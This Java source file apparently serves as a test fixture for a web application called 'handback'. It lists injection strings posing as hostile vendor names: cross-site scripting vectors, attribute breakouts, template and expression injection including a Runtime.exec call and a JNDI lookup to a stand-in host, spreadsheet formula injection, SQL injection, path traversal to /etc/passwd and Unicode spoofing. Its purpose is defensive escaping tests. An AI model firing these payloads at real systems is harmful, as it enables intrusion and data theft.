package dev.handback.web;

import java.util.List;

/**
 * What a hostile vendor would call things: each string tries to become more than text somewhere. What runs sets
 * {@code window.owned}; what becomes an element has the class {@code owned}; what is fetched lies at owned.example.
 */
final class Payloads {
    static final List<String> ALL = List.of(
            // elements and scripts
            "<script>window.owned=1</script>",
            "</script><script>window.owned=1</script>",
            "<img class=owned src=x onerror=window.owned=1>",
            "<svg class=owned onload=window.owned=1>",
            "<svg><script>window.owned=1</script></svg>",
            "<svg><animate class=owned onbegin=window.owned=1 attributeName=x dur=1s>",
            "<body onload=window.owned=1>",
            "<iframe class=owned srcdoc='<script>parent.owned=1</script>'></iframe>",
            "<iframe class=owned src=javascript:parent.owned=1></iframe>",
            "<object class=owned data=data:text/html,<script>window.owned=1</script>></object>",
            "<link class=owned rel=stylesheet href=//owned.example/x.css>",
            "<style class=owned>@import url(//owned.example/x.css)</style>",
            "<base class=owned href=//owned.example/>",
            "<meta class=owned http-equiv=refresh content=0;url=//owned.example/>",
            "<form class=owned action=//owned.example/><button>Sign</button></form>",
            "<input class=owned autofocus onfocus=window.owned=1>",
            "<details class=owned open ontoggle=window.owned=1>",
            "<video class=owned><source onerror=window.owned=1></video>",
            "<math><mi class=owned xlink:href=javascript:window.owned=1>x</mi></math>",
            "<a class=owned href=javascript:window.owned=1>press</a>",
            "<template><img class=owned src=//owned.example/x></template><p>",
            "<!--><img class=owned src=//owned.example/x>-->",
            "<![CDATA[<img class=owned src=//owned.example/x>]]>",
            "<noscript><p title=\"</noscript><img class=owned src=x onerror=window.owned=1>\">",
            "<scr<script>ipt>window.owned=1</script>",
            "<ScRiPt >window.owned=1</sCrIpT>",
            "<img/class=owned/src=x/onerror=window.owned=1//",
            "%3Cscript%3Ewindow.owned=1%3C/script%3E",
            "&lt;script&gt;window.owned=1&lt;/script&gt;",
            "&#60;img class=owned src=x onerror=window.owned=1&#62;",
            "\\u003cimg class=owned src=x onerror=window.owned=1\\u003e",
            "\uff1cscript\uff1ewindow.owned=1\uff1c/script\uff1e",
            // out of an attribute
            "\" onmouseover=\"window.owned=1\" x=\"",
            "' onmouseover='window.owned=1' x='",
            "` onmouseover=`window.owned=1`",
            "\"><img class=owned src=x onerror=window.owned=1>",
            "'><img class=owned src=x onerror=window.owned=1>",
            "--></textarea></title></select><img class=owned src=x onerror=window.owned=1>",
            "\" autofocus onfocus=window.owned=1 tabindex=1 \"",
            "\" style=\"background:url(//owned.example/x)",
            // as an address
            "javascript:window.owned=1",
            "JaVaScRiPt:window.owned=1//",
            "data:text/html,<script>window.owned=1</script>",
            "//owned.example/x",
            "\\\\owned.example\\x",
            "https://handback@owned.example/",
            // templates and expressions
            "${T(java.lang.Runtime).getRuntime().exec('true')}",
            "*{7*7}#{7*7}~{7*7}@{7*7}[[${7*7}]][(${7*7})]",
            "__${7*7}__::.x",
            "{{constructor.constructor('window.owned=1')()}}",
            "<p class=owned th:text=\"${7*7}\" hx-get=\"//owned.example/x\" hx-trigger=\"load\">x</p>",
            "%n%s%x%p {} {0} ${jndi:ldap://owned.example/x}",
            // tables of a spreadsheet program
            "=HYPERLINK(\"http://owned.example/\",\"press\")",
            "=cmd|' /C calc'!A0",
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "a\",\"=1+1\",\"b",
            // the look of a line
            "invoice\u202egpj.exe\u202c",
            "\u2066hidden\u2069 \u200b\u200e\u200f\ufeff zero",
            "e\u0301\u0301\u0301\u0301\u0301\u0301 Zalgo \u0336\u0336",
            "p\u0430yments (a Cyrillic a)",
            "'; drop table handback.exit; --",
            "../../../etc/passwd",
            "a".repeat(190),
            "wide".repeat(12) + "\u3000" + "\ud83d\udca3".repeat(20));

    private Payloads() {}
}
